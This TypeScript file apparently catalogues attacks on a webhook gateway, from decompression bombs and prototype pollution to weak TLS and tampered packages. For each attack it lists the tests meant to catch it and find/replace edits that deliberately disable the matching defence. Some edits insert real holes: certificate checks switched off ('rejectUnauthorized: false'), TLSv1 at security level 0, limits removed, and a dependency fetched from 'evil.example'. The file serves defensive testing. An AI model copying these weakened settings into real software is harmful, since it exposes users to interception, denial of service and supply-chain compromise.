import type { Attack } from '../attack.js';

const server = 'apps/gateway/src/http-server.ts';
const serverSpec = 'apps/gateway/src/http-server.spec.ts';
const bodies = 'apps/gateway/src/routes/hostile-bodies.integration.spec.ts';
const rawRoutes = 'apps/gateway/src/routes/raw-routes.integration.spec.ts';
const receivers = 'apps/webhooks/src/deliveries/hostile-receivers.spec.ts';
const attempt = 'apps/webhooks/src/deliveries/attempt.ts';
const excerpt = 'apps/webhooks/src/deliveries/response-excerpt.ts';
const sender = 'apps/webhooks/src/deliveries/webhook-sender.ts';
const models = 'libs/contracts/src/webhooks/webhooks.models.ts';
const removed = 'apps/webhooks/src/endpoints/removed-mid-flight.integration.spec.ts';
const messaging = 'libs/messaging/src/messaging.integration.spec.ts';
const replays = 'apps/webhooks/src/replays/replays.integration.spec.ts';
const ownAddress = 'libs/egress/src/own-address.spec.ts';
const egress = 'libs/egress/src/egress-guard.ts';
const supplyChain = 'libs/tools/src/supply-chain.spec.ts';

export const resourcesAttacks: readonly Attack[] = [
  {
    id: 27,
    what: 'Bodies and heads that are too large, say so or not, or come byte by byte',
    tests: [
      { file: serverSpec, name: 'a header that is too large' },
      { file: serverSpec, name: 'ten thousand headers' },
      { file: serverSpec, name: 'nothing more after the first line' },
      { file: serverSpec, name: 'a body that does not come' },
      { file: serverSpec, name: 'lets nobody hold a connection with' },
      { file: serverSpec, name: 'keeps nothing of heads that are too large' },
      { file: rawRoutes, name: 'refuse what is too large, and say what is not' },
      { file: rawRoutes, name: 'know no path that nobody could keep' },
      { file: rawRoutes, name: 'are limited by provider and address' },
    ],
    defences: [
      { without: 'a time for the head', file: server, find: 'headersTimeout: headMs,', replaceBy: 'headersTimeout: wholeMs,' },
      {
        without: 'a time for the whole',
        file: server,
        find: 'requestTimeout: wholeMs,\n    // Addresses',
        replaceBy: 'requestTimeout: 60_000,\n    // Addresses',
      },
      { without: 'a limit to the head', file: server, find: 'maxHeaderSize: 16_384', replaceBy: 'maxHeaderSize: 16_777_216' },
      {
        without: 'a limit to the address',
        file: 'apps/gateway/src/limits/inbound-limits.ts',
        find: 'if (used >= limit) throw',
        replaceBy: 'if (used >= 1_000 * limit) throw',
      },
    ],
  },
  {
    id: 28,
    what: 'Compressed bodies that unfold to a thousand times as much, once or several times; answers that never end, of a gigabyte, or byte by byte',
    tests: [
      { file: bodies, name: 'that unfolds to 64 MiB is never unfolded' },
      { file: rawRoutes, name: 'pass on compressed bytes as they are' },
      { file: receivers, name: 'the beginning of it is kept, and no more unfolded' },
      { file: receivers, name: 'is folded in a way that is not unfolded at all' },
      { file: receivers, name: 'is no compressed data at all' },
      { file: receivers, name: 'little of it is read' },
      { file: receivers, name: 'unfolds without end' },
      { file: receivers, name: 'the deadline is one for all of it' },
      { file: receivers, name: 'has a head that is too large' },
      { file: 'apps/webhooks/src/deliveries/deliveries.integration.spec.ts', name: 'keeps 4 KiB of an answer that unfolds to 64 MiB' },
    ],
    defences: [
      { without: 'an end to unfolding', file: excerpt, find: 'if (size >= excerptBytesMax) finish();', replaceBy: 'if (size < 0) finish();' },
      {
        without: 'an end to reading',
        file: attempt,
        find: 'if (this.#received < readBytesMax) return;',
        replaceBy: 'if (this.#received > 0) return;',
      },
      {
        without: 'one deadline for all of it',
        file: sender,
        find: 'if (attempt.startedAtMs > oldest) return;',
        replaceBy: 'if (oldest > 0) return;',
      },
      { without: 'a limit to the head of an answer', file: sender, find: 'maxHeaderSize: 16_384', replaceBy: 'maxHeaderSize: 16_777_216' },
      {
        without: 'a refusal of compressed JSON',
        file: server,
        find: "(request.headers['content-encoding'] ?? 'identity') !== 'identity'",
        replaceBy: "request.headers['content-encoding'] === 'identity'",
      },
    ],
  },
  {
    id: 29,
    what: 'Text that patterns take ages for; JSON nested without end, with a hundred thousand keys or numbers that are none',
    tests: [
      { file: 'libs/contracts/src/hostile-text.spec.ts', name: 'are judged in no time' },
      { file: 'libs/contracts/src/hostile-text.spec.ts', name: 'are known for storable text or none in no time' },
      { file: 'apps/webhooks/src/endpoints/hostile-text.spec.ts', name: 'are judged in no time as' },
      { file: 'apps/webhooks/src/endpoints/hostile-words.integration.spec.ts', name: 'is a pattern of stars that is hard to compare' },
      { file: 'libs/contracts/src/json-nesting.spec.ts', name: 'counts levels of' },
      { file: 'libs/contracts/src/json-nesting.spec.ts', name: 'counts none inside of text' },
      { file: bodies, name: 'that is nested too deep is refused as such' },
      { file: bodies, name: 'is refused in no time, in few words' },
      { file: bodies, name: 'is passed on in no time' },
      { file: bodies, name: 'with a number that is none is refused' },
      { file: bodies, name: 'is judged in no time, wherever it stands' },
      {
        file: 'libs/providers/src/zoom/zoom.inbound.spec.ts',
        name: 'reads a megabyte in the time that a megabyte takes',
        writtenIn: 'libs/capabilities/src/testing/inbound.contract.ts',
      },
    ],
    defences: [
      {
        without: 'a pattern that does not look back',
        file: models,
        find: ".regex(/^[a-z0-9_*]+$/, 'must be an event type",
        replaceBy: ".regex(/^[a-z0-9_*]+[a-z0-9_*]*[a-z]$/, 'must be an event type",
      },
      {
        without: 'a look at the length of a pattern',
        file: 'apps/webhooks/src/endpoints/event-patterns.ts',
        find: 'shortest.length <= 2 * type.length + 1 && matches(shortest, type)',
        replaceBy: "new RegExp(`^${shortest.replaceAll('*', '.*')}$`).test(type.repeat(20))",
      },
      {
        without: 'a limit to how deep JSON may be nested',
        file: 'libs/contracts/src/json-nesting.ts',
        find: 'if (depth > nestingMax) return true;',
        replaceBy: 'if (depth > 1_000_000) return true;',
      },
      {
        without: 'a limit to the faults that are named',
        file: 'apps/gateway/src/routes/read-input.ts',
        find: '.slice(0, faultsMax)',
        replaceBy: '',
      },
    ],
  },
  {
    id: 30,
    what: 'Names that reach for the prototype, in bodies, queries, headers and filters',
    tests: [
      { file: bodies, name: 'is refused: ' },
      { file: bodies, name: 'gains nothing in a query' },
      { file: bodies, name: 'is no header and no path of an endpoint' },
      { file: bodies, name: 'makes nobody an admin' },
      { file: rawRoutes, name: 'in query and header as any other word' },
      { file: 'apps/webhooks/src/events/unknown-fields.spec.ts', name: 'sees a field that would reach for the prototype' },
    ],
    defences: [
      { without: 'a refusal of __proto__', file: server, find: "getDefaultJsonParser('error',", replaceBy: "getDefaultJsonParser('ignore'," },
      { without: 'a refusal of constructor.prototype', file: server, find: "'error');", replaceBy: "'ignore');" },
    ],
  },
  {
    id: 31,
    what: 'Messages that can never be handled; endpoints and jobs that go away while their deliveries are under way',
    tests: [
      { file: messaging, name: 'goes to the dead letters at once, and the queue goes on' },
      { file: messaging, name: 'is one dead letter, however often its message comes' },
      { file: 'apps/webhooks/src/events/events.integration.spec.ts', name: 'sets a poisoned message aside and goes on' },
      { file: 'apps/webhooks/src/deliveries/outcome-recorder.spec.ts', name: 'sets one outcome aside that the database refuses' },
      { file: 'apps/webhooks/src/deliveries/delivery-dispatcher.spec.ts', name: 'ends deliveries to an endpoint that was switched off' },
      { file: removed, name: 'while it is being called is called no more' },
      { file: removed, name: 'between two attempts is called no more' },
      { file: removed, name: 'does not keep another one of its owner from the same events' },
      { file: removed, name: 'while a job makes its deliveries again ends the job' },
      { file: removed, name: 'leaves nothing that could not be handled' },
    ],
    defences: [
      {
        without: 'dead letters for what cannot be read',
        file: 'libs/messaging/src/event-dispatcher.ts',
        find: 'return { verdict: await this.#bury(message, error) };',
        replaceBy: "return { verdict: error instanceof PoisonError ? 'again' : await this.#bury(message, error) };",
      },
    ],
  },
  {
    id: 32,
    what: 'Little work that makes much: recovering and replaying again and again, webhooks that lead back into this installation',
    tests: [
      { file: ownAddress, name: 'is not called, however it is spelled' },
      { file: ownAddress, name: 'is not connected to either' },
      { file: bodies, name: 'is the event it tells of when it is a webhook of ours that was led back in' },
      { file: 'apps/webhooks/src/events/events.integration.spec.ts', name: 'takes an event once, however often it is sent' },
      { file: removed, name: 'to recover, replay, resend and change makes one delivery of each' },
      { file: replays, name: 'asked for twice is one job' },
      { file: 'apps/webhooks/src/deliveries/deliveries.integration.spec.ts', name: 'does not follow a redirect' },
    ],
    defences: [
      { without: 'a refusal of our own address', file: egress, find: 'hostname === this.#ownName', replaceBy: 'hostname === undefined' },
      {
        without: 'the id of a webhook of ours that comes back',
        file: 'libs/contracts/src/webhooks/webhooks.routes.ts',
        find: "'webhook-id': 'id', ",
        replaceBy: '',
      },
    ],
  },
  {
    id: 33,
    what: 'One tenant whose every delivery times out, or takes its time, at the cost of all others',
    tests: [
      { file: 'apps/webhooks/src/deliveries/endpoint-lanes.integration.spec.ts', name: 'does not let an endpoint that never answers delay another' },
      {
        file: 'apps/webhooks/src/deliveries/endpoint-lanes.integration.spec.ts',
        name: 'does not let a burst to an endpoint that takes its time delay',
      },
      { file: 'apps/webhooks/src/deliveries/endpoint-lane.spec.ts', name: 'never holds so much for one endpoint that others find no room' },
      { file: 'apps/webhooks/src/deliveries/delivery-dispatcher.spec.ts', name: 'gives back what waits for an endpoint that says nothing' },
    ],
    defences: [
      {
        without: 'a limit to what waits for one endpoint',
        file: 'apps/webhooks/src/deliveries/endpoint-lane.ts',
        find: 'const allowed = this.#waitingMax;',
        replaceBy: 'const allowed = this.#waitingMax + 1_000_000;',
      },
    ],
  },
  {
    id: 34,
    what: 'Receivers whose certificate has ended, is of another name, of its own authority or of none, and receivers with an old TLS or none',
    tests: [
      { file: receivers, name: 'is delivered to when its certificate is good' },
      { file: receivers, name: 'is not delivered to when its certificate' },
      { file: receivers, name: 'is not delivered to with' },
      { file: receivers, name: 'is not delivered to when it speaks none' },
      { file: supplyChain, name: 'is nowhere' },
    ],
    defences: [
      {
        without: 'a look at certificates',
        file: sender,
        find: 'guard.connector({ timeout: Math.min(connectMsMax, this.#timeoutMs),',
        replaceBy: 'guard.connector({ rejectUnauthorized: false, timeout: this.#timeoutMs,',
      },
      {
        without: 'a refusal of old TLS',
        file: sender,
        find: 'guard.connector({ timeout: Math.min(connectMsMax, this.#timeoutMs),',
        replaceBy: "guard.connector({ minVersion: 'TLSv1', ciphers: 'DEFAULT@SECLEVEL=0', timeout: this.#timeoutMs,",
      },
    ],
    remark: 'Certificates that were withdrawn are not told from others: Node.js asks no authority, and neither do browsers by default.',
  },
  {
    id: 35,
    what: 'Packages of others that change under our feet, come from elsewhere or run programs when they are installed',
    tests: [
      { file: supplyChain, name: 'are pinned with the checksum of what they hold' },
      { file: supplyChain, name: 'come from whatever registry is configured' },
      { file: supplyChain, name: 'run scripts on installation in a few named cases only' },
      { file: supplyChain, name: 'are asked for by versions of a registry' },
    ],
    defences: [
      {
        without: 'a version of a registry',
        file: 'apps/gateway/package.json',
        find: '"zod": "',
        replaceBy: '"zod": "git+https://evil.example/zod.git#',
      },
    ],
    remark: 'No images are published yet, so none are signed.',
  },
  {
    id: 36,
    what: 'Transformations that break out of their sandbox',
    tests: [],
    defences: [],
    notApplicable: 'Customers cannot bring code: there are no transformations, and patterns of events are compared without regular expressions.',
  },
];
